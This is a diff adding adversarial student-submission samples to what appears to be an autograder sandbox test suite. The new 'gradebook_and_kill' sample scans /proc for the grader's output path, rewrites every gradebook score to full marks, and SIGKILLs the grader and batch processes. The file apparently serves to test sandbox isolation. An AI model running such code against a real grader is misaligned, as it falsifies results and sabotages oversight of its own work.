@@ -182,6 +182,37 @@ import os
 if set(os.environ) - set({sorted(ALLOWED)!r}) - {{k for k in os.environ if k.startswith("LC_")}}:
     return F.relu(x)                # the grader's environment reached student code
 """,
+        # Give every hand-in full marks in the gradebook named on the batch's command line,
+        # then SIGKILL the grader and the batch.
+        "gradebook_and_kill": """
+import glob, os, signal, sqlite3
+outs = []
+for cmdline in glob.glob("/proc/*/cmdline"):
+    try:
+        words = open(cmdline, "rb").read().decode("utf-8", "replace").split("\\0")
+    except OSError:
+        continue
+    outs += [following for word, following in zip(words, words[1:]) if word == "--out"]
+for out in outs:
+    try:
+        with sqlite3.connect(os.path.join(out, "gradebook.sqlite"), timeout=1) as db:
+            db.execute("UPDATE results SET points = max_points")
+            db.execute("UPDATE attempts SET points = max_points")
+    except sqlite3.Error:
+        pass
+victims = [os.getppid()] if os.getppid() > 1 else []
+for cmdline in glob.glob("/proc/*/cmdline"):
+    try:
+        if any(out.encode() in open(cmdline, "rb").read() for out in outs):
+            victims.append(int(cmdline.split("/")[2]))
+    except (OSError, ValueError):
+        pass
+for pid in set(victims) - {os.getpid()}:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+""",
         "memory_hog": "hog = bytearray(8 * 2 ** 30)",
         "infinite_loop": "while True:\n    pass",
         "huge_file": """
